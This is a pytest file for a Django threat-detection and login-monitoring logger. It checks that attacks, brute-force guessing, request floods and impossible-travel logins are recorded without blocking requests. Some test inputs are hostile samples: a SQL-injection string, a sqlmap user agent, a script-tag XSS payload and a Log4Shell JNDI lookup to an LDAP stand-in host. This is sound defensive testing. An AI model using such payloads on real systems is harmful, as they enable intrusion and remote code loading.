"""Django's requests and logins become records on `aura.security`, and nothing is blocked or slowed down."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth import authenticate
from django.contrib.auth.models import User
from django.contrib.auth.signals import user_logged_in
from django.core.exceptions import ImproperlyConfigured
from django.test import RequestFactory, override_settings

from aura_logging import context
from aura_logging.django import conf, security
from aura_logging.threats.geo import JourneyWatch, Place

ALONE = {"login_store": "memory"}


@pytest.fixture(autouse=True)
def _alone() -> Iterator[None]:
    security.connect()
    with override_settings(AURA={"THREATS": ALONE}):
        yield


def get(path: str, **meta: str) -> Any:
    return RequestFactory().get(path, **meta)


def test_an_ordinary_request_is_passed_in_silence(lines) -> None:
    assert security.observe_request(get("/shop/?page=2", HTTP_USER_AGENT="Mozilla/5.0 (X11; Linux)")) is None
    assert lines.of("aura.security") == []


def test_an_attack_is_one_record_that_tells_what_and_where(lines) -> None:
    with context.bound(client_ip="192.0.2.1", correlation_id="abc"):
        kind = security.observe_request(get("/x/?q=%27%20or%201%3D1--", HTTP_USER_AGENT="sqlmap/1.7"))
    assert kind == "scanner"
    (line,) = lines.of("aura.security")
    assert line["message"] == "threat seen in request"
    assert (line["security_event"], line["threat_type"], line["threat_location"]) == (True, "scanner", "user-agent")
    assert line["threats"] == ["scanner", "sqli"]
    assert (line["client_ip"], line["correlation_id"], line["level"]) == ("192.0.2.1", "abc", "WARNING")


def test_inspecting_touches_neither_body_nor_user_nor_session() -> None:
    request = get("/?q=<script>x()</script>", HTTP_COOKIE="a=%24%7Bjndi:ldap://x.example%7D")
    before = set(request.__dict__)
    kinds = {threat.kind for threat in security.inspect_request(request)}
    assert kinds == {"xss", "log4shell"}
    assert set(request.__dict__) == before


def test_inspection_can_be_narrowed_and_switched_off() -> None:
    request = get("/", HTTP_USER_AGENT="sqlmap/1.7", HTTP_REFERER="http://x.example/?q=%27%20or%201%3D1--")
    with override_settings(AURA={"THREATS": {**ALONE, "headers": ["referer"]}}):
        assert {threat.location for threat in security.inspect_request(request)} == {"referer"}
    with override_settings(AURA={"THREATS": {**ALONE, "minimum_score": 1.0}}):
        assert security.inspect_request(request) == []
    with override_settings(AURA={"THREATS": {**ALONE, "inspect_requests": False}}):
        assert security.inspect_request(request) == []


@pytest.mark.parametrize(
    ("section", "said"),
    [
        ({"headers": ["x-nonsense"]}, "x-nonsense"),
        ({"minimum_score": 2.0}, "minimum_score"),
        ({"login_guard": {"failures_per_acount": 3}}, "failures_per_account"),
        ({"inspect": True}, "inspect"),
    ],
)
def test_a_bad_setting_is_named(section: dict[str, Any], said: str) -> None:
    with override_settings(AURA={"THREATS": section}), pytest.raises(ImproperlyConfigured, match=said):
        conf.options(security.ThreatOptions)


def test_a_failed_login_tells_the_account_and_never_the_password(lines, database: Path) -> None:
    with context.bound(client_ip="192.0.2.1"):
        assert authenticate(get("/login/"), username="ada", password="hunter2") is None
    (line,) = lines.of("aura.security")
    assert (line["message"], line["threat_type"], line["account"]) == ("login failed", "authentication_failure", "ada")
    assert line["client_ip"] == "192.0.2.1"
    assert "hunter2" not in str(line)


def test_guessing_is_told_once_when_it_crosses_its_threshold(lines, database: Path) -> None:
    with override_settings(AURA={"THREATS": {**ALONE, "login_guard": {"failures_per_pair": 3}}}):
        for _ in range(5):
            authenticate(get("/login/"), username="ada", password="wrong")
    (attack,) = [line for line in lines.of("aura.security") if line["message"] == "login attack seen"]
    assert (attack["threat_type"], attack["scope"], attack["count"]) == ("brute_force", "pair", 3)


def test_a_flood_is_told_once(lines) -> None:
    with override_settings(AURA={"THREATS": {**ALONE, "login_guard": {"requests_per_address": 40}}}):
        kinds = [security.observe_request(get("/")) for _ in range(60)]
    assert kinds.count("request_flood") == 1
    assert len(lines.of("aura.security", threat_type="request_flood")) == 1


def test_a_login_from_too_far_away_is_told(lines, database: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    places = {"192.0.2.1": Place("DE", "Berlin", 52.5, 13.4), "192.0.2.2": Place("US", "New York", 40.7, -74.0)}
    watch = JourneyWatch(places.get)
    monkeypatch.setattr(security, "_watch", lambda: watch)
    ada = User.objects.get(username="ada")
    for address in ("192.0.2.1", "192.0.2.2"):
        with context.bound(client_ip=address):
            user_logged_in.send(User, request=get("/"), user=ada)
    told = {line["threat_type"]: line for line in lines.of("aura.security")}
    assert set(told) == {"impossible_travel", "new_country"}
    assert (told["new_country"]["country_code"], told["new_country"]["country_before"]) == ("US", "DE")


def test_a_shared_store_is_a_file_in_the_log_directory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AURA_LOG_DIR", str(tmp_path))
    with override_settings(AURA={"THREATS": {"login_guard": {"requests_per_address": 1}}}):
        assert security.observe_request(get("/")) == "request_flood"
    assert (tmp_path / "aura-logins.db").exists()
